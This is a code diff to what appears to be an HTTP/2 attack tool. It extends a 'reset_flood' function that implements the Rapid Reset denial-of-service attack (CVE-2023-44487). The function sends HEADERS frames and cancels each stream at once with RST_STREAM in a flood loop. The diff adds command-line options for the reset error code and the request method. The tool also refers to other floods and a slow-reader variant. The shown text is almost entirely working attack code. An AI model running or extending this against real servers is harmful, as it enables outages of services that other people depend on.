@@ -29,15 +29,17 @@ UPLOAD = {"method": "PUT", "flags": ("END_HEADERS",)}
 
 
 def reset_flood(peer, options):
-    """Requests that are taken back at once (CVE-2023-44487)."""
+    """Requests that are taken back at once (CVE-2023-44487), with the `--code` of a reset."""
     peer.begin()
+    code = ErrorCodes[options.code]
+    flags = ["END_HEADERS", "END_STREAM"] if options.method == "GET" else ["END_HEADERS"]
 
     def say():
         stream = peer.next_stream
         peer.next_stream += 2
         peer.say(
-            HeadersFrame(stream, peer.headers(), flags=["END_HEADERS", "END_STREAM"]),
-            RstStreamFrame(stream, ErrorCodes.CANCEL),
+            HeadersFrame(stream, peer.headers(options.method), flags=flags),
+            RstStreamFrame(stream, code),
         )
 
     peer.flood(say)
@@ -287,6 +289,8 @@ def arguments():
     parser.add_argument("--seconds", type=float, default=5, help="when it ends, unless the server ends it before")
     parser.add_argument("--path", default="/")
     parser.add_argument("--how", default="", help="the variant: see each attack")
+    parser.add_argument("--code", choices=[code.name for code in ErrorCodes], default="CANCEL")
+    parser.add_argument("--method", default="GET", help="of the requests of a reset flood; all but GET announce a body")
     parser.add_argument("--streams", type=int, default=1)
     parser.add_argument("--count", type=int, help="how often a flood repeats itself at most")
     parser.add_argument("--rate", type=float, help="how often a second; bytes a second of a slow reader")
